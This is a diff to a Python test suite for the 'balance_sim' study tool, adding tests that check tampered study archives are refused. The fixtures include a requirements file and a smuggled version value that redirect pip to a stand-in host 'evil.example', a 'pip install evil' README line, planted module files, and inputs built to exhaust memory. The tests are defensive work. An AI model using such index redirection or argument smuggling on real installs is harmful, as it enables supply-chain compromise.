@@ -2,18 +2,24 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import os
 import re
+import shutil
 import stat
 import struct
+import subprocess
+import sys
 import zipfile
 import zlib
 from contextlib import suppress
 from pathlib import Path
 
 import numpy as np
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
@@ -24,10 +30,11 @@ from balance_sim.scenario import load_scenario, new_scenario, scenario_files
 from balance_sim.scenario.experiment import experiment_files, load_experiment
 from balance_sim.scenario.fingerprint import content_digest
 from balance_sim.scenario.problems import ScenarioError
-from balance_sim.study import archive, reproduce
+from balance_sim.study import archive, reproduce, shards
 from balance_sim.study.archive import BadArchive, unzipped, zipped
 from balance_sim.study.faults import StudyFault
-from balance_sim.study.package import cell, files_of, package
+from balance_sim.study.manifest import write_manifest
+from balance_sim.study.package import cell, files_of, package, requirements
 from balance_sim.study.reproduce import read_archive
 from balance_sim.study.run import run
 from balance_sim.study.store import Store
@@ -231,8 +238,6 @@ def test_what_cannot_be_packaged(place: Path, tmp_path: Path) -> None:
     assert code == 2 and "holds no results" in said
     code, said = call("package", place / "run", "--out", place / "run.zip")
     assert code == 2 and "is there already" in said
-    import shutil
-
     for name in ("unfinished", "damaged"):
         shutil.copytree(place / "run", tmp_path / name)
     (tmp_path / "unfinished" / "summary.json").unlink()
@@ -251,7 +256,8 @@ def test_what_cannot_be_packaged(place: Path, tmp_path: Path) -> None:
 def test_another_result_is_not_reproduced(place: Path, kind: str, tmp_path: Path) -> None:
     about = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
     other = {"seed": 99, "by_hand": None}  # with it the seed would be that of another experiment
-    path = remade(place, kind, tmp_path / "other.zip", about=json.dumps(other).encode())
+    gone = dict.fromkeys(one for one in unzipped(place / f"{kind}.zip") if one.startswith("inputs/"))
+    path = remade(place, kind, tmp_path / "other.zip", about=json.dumps(other).encode(), **gone)
     code, said = call("reproduce", path, "--workers", "1")
     assert code == 6 and said.startswith("not reproduced: digest ")
     assert "accords or their dates" in said and about["digest"] in said
@@ -265,8 +271,9 @@ def test_last_digits_of_another_processor(place: Path, kind: str, tmp_path: Path
     summary = unzipped(place / f"{kind}.zip")["results/summary.json"].decode()
     summary = summary.replace(about["digest"], "0" * 64)
 
-    def told(name: str, **more: object) -> tuple[int, str]:
+    def told(name: str, files: dict[str, bytes] | None = None, **more: object) -> tuple[int, str]:
         changed = {"about": json.dumps(nudged | more).encode(), "results/summary.json": summary.encode()}
+        changed |= files or {}
         return call("reproduce", remade(place, kind, tmp_path / name, **changed), "--workers", "1", "--json")
 
     code, said = told("here.zip")
@@ -275,11 +282,119 @@ def test_last_digits_of_another_processor(place: Path, kind: str, tmp_path: Path
     answer = json.loads(said)
     assert (code, answer["ok"], answer["how"]) == (0, True, "digits")
     assert "accords and dates are the same in every run" in answer["said"]
-    code, said = told("numpy.zip", versions=about["versions"] | {"numpy": "2.1.0"})
+    versions = about["versions"] | {"numpy": "2.1.0"}
+    code, said = told("numpy.zip", {"requirements.txt": requirements(versions)}, versions=versions)
     assert code == 0 and json.loads(said)["how"] == "digits"
     far = {k: None if v is None else v + 1e-6 for k, v in means.items()}
     assert told("far.zip", cpu="z80", means=far)[0] == 6
     assert told("dates.zip", cpu="z80", accords_digest="1" * 64)[0] == 6
+
+
+EVIL = b"--index-url https://evil.example/simple\nbalance-sim\n"
+PYPROJECT = b"[project]\nname = 'x'\nversion = '1'\n"
+ELSEWHERE = {"versions": {"balance_sim": "0.0.1"}}
+
+
+@pytest.mark.fault("F41")
+@pytest.mark.parametrize(
+    ("about", "changed", "said"),
+    [
+        ({}, {"requirements.txt": EVIL}, "requirements.txt is not what the versions in package.json give"),
+        ({"versions": {"numpy": "2 --index-url https://evil.example"}}, {}, "a value is out of bounds"),
+        ({}, {"balance_sim.py": b"1/0"}, "balance_sim.py: no file of this name belongs in the archive"),
+        ({}, {"pyproject.toml": PYPROJECT}, "pyproject.toml: no file of this name"),
+        ({}, {"results/balance_sim.py": b"1/0"}, "results/balance_sim.py: no file of this name"),
+        ({}, {"inputs/balance_sim.py": b"1/0"}, "do not give this study"),
+        ({"by_hand": None}, {}, "package.json says of no input that it gives the study"),
+        (ELSEWHERE, {"balance_sim.py": b"1/0"}, "balance_sim.py: no file of this name belongs"),
+    ],
+)  # fmt: skip
+def test_nothing_strange_lies_in_what_is_reproduced(place, kind, tmp_path, about, changed, said) -> None:
+    """Every checksum fits; what does not come of the study is refused before anything is run or written."""
+    known = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
+    more = {key: known[key] | value if isinstance(value, dict) else value for key, value in about.items()}
+    path = remade(place, kind, tmp_path / "bad.zip", about=json.dumps(more).encode(), **changed)
+    code, words = call("reproduce", path, "--out", tmp_path / "out")
+    assert (code, said in words) == (4, True), words
+    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
+
+
+@pytest.mark.fault("F41")
+def test_of_another_version_only_what_belongs_to_the_study_is_unpacked(place, kind, tmp_path) -> None:
+    """It may have written its papers otherwise: they are named, and left out; the requirements are made anew."""
+    known = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
+    about = {"versions": known["versions"] | {"balance_sim": "0.0.1"}, "by_hand": None}
+    changed = {"requirements.txt": EVIL, "parameters.csv": b"x\n", "README.md": b"pip install evil\n"}
+    summary = unzipped(place / f"{kind}.zip")["results/summary.json"].decode()
+    own = known["versions"]["balance_sim"]
+    summary = summary.replace(f'"version": "{own}"', '"version": "0.0.1"')
+    papers = changed | {"about": json.dumps(about).encode(), "results/summary.json": summary.encode()}
+    path = remade(place, kind, tmp_path / "old.zip", **papers)
+    code, said = call("reproduce", path, "--out", tmp_path / "out", "--workers", "1", "--json")
+    words = json.loads(said)["said"]
+    unheld = {one for one in unzipped(path) if one.startswith("inputs/")} | {*changed}
+    named = words.partition("so not unpacked: ")[2]
+    assert code == 0 and all(one in named for one in sorted(unheld)[:5]), said
+    there = {str(p.relative_to(tmp_path / "out")) for p in (tmp_path / "out").rglob("*") if p.is_file()}
+    assert there == set(unzipped(path)) - unheld | {"requirements.txt"}
+    assert (tmp_path / "out" / "requirements.txt").read_bytes() == requirements(about["versions"])
+
+
+HUGE = "{events.summit.visibility: {min: 0, max: 1, steps: 10000}, parameters.beta: {min: 0, max: 1, steps: 10000}}"
+BOUNDED = """import resource, sys
+from pathlib import Path
+from click.testing import CliRunner
+from balance_sim.cli import main
+import balance_sim.study.reproduce, balance_sim.study.package
+size = int(Path('/proc/self/statm').read_text().split()[0]) * resource.getpagesize()
+resource.setrlimit(resource.RLIMIT_AS, (size + (400 << 20),) * 2)
+for words in (['reproduce', 'bomb.zip'], ['package', 'sweep']):
+    ended = CliRunner().invoke(main, words)
+    print(ended.exit_code, ended.output.strip())
+"""
+
+
+@pytest.mark.fault("F41")
+@pytest.mark.skipif(sys.platform != "linux", reason="reads its own size from /proc")
+def test_a_grid_of_a_hundred_million_points_takes_no_memory(place: Path, tmp_path: Path) -> None:
+    """An experiment of 14 kB in an archive, and in a results folder, with 400 MB to spare: 4.7 GB before."""
+    text = EXPERIMENT.replace("{events.summit.visibility: [0, 0.5, 1]}", HUGE)
+    assert text != EXPERIMENT
+    remade(place, "sweep", tmp_path / "bomb.zip", **{"inputs/exp.yaml": text.encode()})
+    shutil.copytree(place / "sweep", tmp_path / "sweep")
+    manifest = Store(tmp_path / "sweep").read_manifest()
+    write_manifest(tmp_path / "sweep", manifest | {"files": manifest["files"] | {"exp.yaml": text}})
+    words = [sys.executable, "-c", BOUNDED]
+    ended = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=True, timeout=120)
+    first, second = ended.stdout.splitlines()
+    assert first == "4 balance-sim: inputs/exp.yaml and the files beside it do not give this study", ended
+    assert second.startswith("0 wrote sweep.zip"), ended
+    about = json.loads(unzipped(tmp_path / "sweep.zip")["package.json"])
+    assert about["by_hand"] is None and not any(one.startswith("inputs/") for one in about["files"])
+
+
+@pytest.mark.fault("F41")
+def test_json_and_tables_that_unpack_to_gigabytes_are_refused(place, tmp_path, monkeypatch) -> None:
+    """Brackets in an archive, or a shard of very many equal rows: counted before they are unpacked."""
+    monkeypatch.setattr(archive, "MOST_VALUES", 4_000)
+    monkeypatch.setattr(shards, "MOST_CELLS", 100_000)
+    path = remade(
+        place, "run", tmp_path / "bad.zip", **{"results/summary.json": b"[" + b"[]," * 4_000 + b"1]"}
+    )
+    code, said = call("reproduce", path)
+    assert code == 4 and "results/summary.json: 8,001 values; at most 4,000 are read" in said
+    shutil.copytree(place / "run", tmp_path / "run")
+    shard = Store(tmp_path / "run").shards("accords")[0]
+    names = pq.read_schema(shard.path).names
+    rows = pa.table(dict.fromkeys(names, pa.array(np.zeros(100_000, np.int8))))
+    sink = pa.BufferOutputStream()
+    pq.write_table(rows, sink, write_page_checksum=True)
+    content = bytes(sink.getvalue())
+    shard.path.unlink()
+    name = shard.path.name.replace(shard.sha256, hashlib.sha256(content).hexdigest())
+    shard.path.with_name(name).write_bytes(content)
+    code, said = call("package", tmp_path / "run")
+    assert code == 6 and "100,000 rows" in said and "at most 100,000 cells" in said, said
 
 
 def test_code_of_a_study_runs_only_if_it_is_named(place: Path, tmp_path: Path, monkeypatch) -> None:
